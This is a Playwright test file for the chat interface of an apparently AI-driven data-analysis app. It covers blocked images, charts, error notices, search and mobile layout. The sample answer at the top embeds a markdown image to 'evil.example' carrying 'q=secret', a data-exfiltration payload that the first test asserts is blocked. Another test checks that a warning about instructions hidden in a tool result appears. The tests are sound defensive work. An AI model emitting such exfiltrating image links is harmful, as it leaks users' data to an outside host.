import { describeWith } from '@sallyport/testing';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { startPage, type ServedPage } from './support/house';
import { recorded, recordedStream } from './support/recorded';
import { useRecordedApi } from './support/recorded-api';
import { noTrouble, watchedPage } from './support/watched-page';

const text =
  'The **answer**, with ![a leak](https://evil.example/p.png?q=secret) and [a link](https://example.org/x).';
const question = recorded.suggestions[0] ?? '';

describeWith('chromium', 'the page, on recorded answers', (executablePath) => {
  let browser: Browser;
  let served: ServedPage;

  beforeAll(async () => {
    served = await startPage({});
    browser = await chromium.launch({ executablePath, chromiumSandbox: false });
  });

  afterAll(async () => {
    await browser?.close();
    await served?.stop();
  });

  async function openWith(answers: Parameters<typeof useRecordedApi>[1], options = {}) {
    const watched = await watchedPage(browser, served.address, options);
    await useRecordedApi(watched.page, answers);
    await watched.page.goto(`${served.address}/`);
    await watched.page.getByTestId('suggestion').first().waitFor();
    return watched;
  }

  it('loads no image of an answer, and says so', async () => {
    const { page, trouble, close } = await openWith({ '/api/chat': { body: recordedStream({ text }) } });
    await page.getByRole('button', { name: question }).last().click();
    await page.getByText('external image blocked: evil.example').waitFor();
    expect(await page.getByTestId('answer').locator('img').count()).toBe(0);
    expect(await page.locator('link[href*="evil"]').count()).toBe(0);
    expect(await page.getByRole('link', { name: /a link/ }).getAttribute('rel')).toContain('noopener');
    expect(trouble).toEqual(noTrouble);
    await close();
  });

  it('takes a long answer that comes all at once, on a slow machine', async () => {
    const words = Array.from({ length: 1_000 }, (_, index) => `word-${index}`).join(' ');
    const { page, trouble, close } = await openWith({
      '/api/chat': { body: recordedStream({ text: words }) },
    });
    const devTools = await page.context().newCDPSession(page);
    await devTools.send('Emulation.setCPUThrottlingRate', { rate: 8 });
    await page.getByRole('button', { name: question }).last().click();
    await page.getByRole('button', { name: 'Copy answer' }).waitFor();
    expect(await page.locator('.prose-answer').innerText()).toBe(words);
    expect(await page.locator('[data-notice]').count()).toBe(0);
    expect(trouble).toEqual(noTrouble);
    await close();
  });

  it('shows a finding at its step and in the trust panel, and a failed step with its hint', async () => {
    const body = recordedStream({ text: 'Done.', withFinding: true, withFailure: true });
    const { page, trouble, close } = await openWith({ '/api/chat': { body } });
    await page.getByRole('button', { name: question }).last().click();
    const step = page.locator('[data-testid=step-card][data-state=done][data-tool=run_analysis]');
    await step.getByText('Instructions hidden in a result').waitFor();
    const failed = page.locator('[data-testid=step-card][data-state=failed]');
    await failed.getByRole('button').first().click();
    await failed.getByText('Line 3, column 16').waitFor();
    expect(await failed.getByTestId('step-error').innerText()).toContain('Its columns are department');
    await page.getByTestId('open-trust').click();
    const panel = page.getByTestId('trust-panel');
    await panel.getByText('Instructions hidden in a result').waitFor();
    expect(await panel.innerText()).toContain('rules, not a language model');
    await page.keyboard.press('Escape');
    await panel.waitFor({ state: 'detached' });
    expect(trouble).toEqual(noTrouble);
    await close();
  });

  it('redraws a chart for the other theme, and gives its figures', async () => {
    const body = recordedStream({ text: 'Done.', withChart: true });
    const { page, trouble, close } = await openWith({ '/api/chat': { body } }, { colorScheme: 'light' });
    await page.getByRole('button', { name: question }).last().click();
    const label = page.getByTestId('chart').locator('svg text', { hasText: 'Engineering' }).first();
    await label.waitFor();
    const light = await label.getAttribute('fill');
    await page.getByRole('button', { name: 'Dark theme' }).click();
    await expect.poll(() => label.getAttribute('fill')).not.toBe(light);
    expect(await page.getByRole('img', { name: 'Average salary' }).getAttribute('aria-label')).toContain(
      'Bar chart',
    );
    const saved = page.waitForEvent('download');
    await page.getByRole('button', { name: 'SVG' }).click();
    expect((await saved).suggestedFilename()).toBe('chart.svg');
    await page.getByRole('button', { name: 'View as table' }).click();
    await page.getByTestId('data-table').getByText('98,412.46').waitFor();
    expect(trouble).toEqual(noTrouble);
    await close();
  });

  it.each([
    ['mcp-unreachable', 'The data server cannot be reached'],
    ['certificate-expired', 'The secure connection was refused'],
    ['model-unauthorised', 'The model’s key was not accepted'],
    ['max-turns', 'The run reached its limit'],
  ] as const)('tells of a run that failed with %s', async (code, title) => {
    const error = { code, message: 'What happened.', remedy: 'What helps.' };
    const end = { runId: 'run-1', conversationId: 'conversation-1', status: 'failed', error } as const;
    const { page, close } = await openWith({ '/api/chat': { body: recordedStream({ text: 'Half', end }) } });
    await page.getByRole('button', { name: question }).last().click();
    const notice = page.getByTestId('run-notice');
    await notice.getByText(title).waitFor();
    expect(await notice.innerText()).toMatch(
      /What happened\.[\s\S]*What to do: What helps\.[\s\S]*Ask again/,
    );
    await close();
  });

  it('tells of a question that did not get through, and of a server that is not connected', async () => {
    const error = { code: 'run-active', message: 'An answer is under way.', remedy: 'Wait for it.' };
    const mcpError = {
      code: 'certificate-revoked',
      message: 'The certificate is revoked.',
      remedy: 'Renew it.',
    };
    const status = {
      ...recorded.status,
      mcp: { ...recorded.status.mcp, reachable: false, peer: undefined, error: mcpError },
    };
    const { page, close } = await openWith({
      '/api/chat': { status: 409, body: { error } },
      '/api/status': { body: status },
    });
    await page.getByTestId('connection-banner').getByText('The certificate is revoked.').waitFor();
    await page.getByRole('button', { name: question }).last().click();
    const notice = page.locator('[data-notice=run-active]');
    await notice.waitFor();
    expect(await notice.innerText()).toMatch(/An answer is under way\.[\s\S]*What to do: Wait for it\./);
    await close();
  });

  it('finds a conversation by words of its title, in any order and without accents', async () => {
    const titles = [
      'Café orders by drink',
      'Total sales in Q1',
      'Salary by office',
      'Cars',
      'Rain',
      'Penguins',
    ];
    const conversations = titles.map((title, index) => ({
      id: `conversation-${index}`,
      title,
      createdAt: 1,
      updatedAt: index,
    }));
    const { page, trouble, close } = await openWith({ '/api/conversations': { body: { conversations } } });
    const items = page.getByTestId('conversations').getByRole('listitem');
    expect(await items.count()).toBe(titles.length);
    await page.getByLabel('Search conversations').fill('orders cafe');
    expect(await items.allInnerTexts()).toEqual([titles[0]]);
    await page.getByLabel('Search conversations').fill('nothing like it');
    await page.getByText('No title has these words.').waitFor();
    expect(trouble).toEqual(noTrouble);
    await close();
  });

  it('fits a phone: the rail becomes a drawer and nothing overflows', async () => {
    const { page, trouble, close } = await openWith(
      { '/api/chat': { body: recordedStream({ text, withChart: true }) } },
      { viewport: { width: 390, height: 780 }, isMobile: true, hasTouch: true },
    );
    await page.getByTestId('suggestion').first().tap();
    await page.getByTestId('chart').locator('svg.marks').waitFor();
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
    const described = page.locator('[data-tool=describe_dataset]');
    expect(await described.getByText('employees', { exact: true }).isVisible()).toBe(true);
    await page.getByRole('button', { name: 'Open the menu' }).tap();
    const menu = page.getByRole('dialog', { name: 'Menu' });
    await menu.getByTestId('datasets').getByText('employees').tap();
    await page.getByTestId('dataset-preview').getByText('One row per member of staff').waitFor();
    expect(trouble).toEqual(noTrouble);
    await close();
  });
});
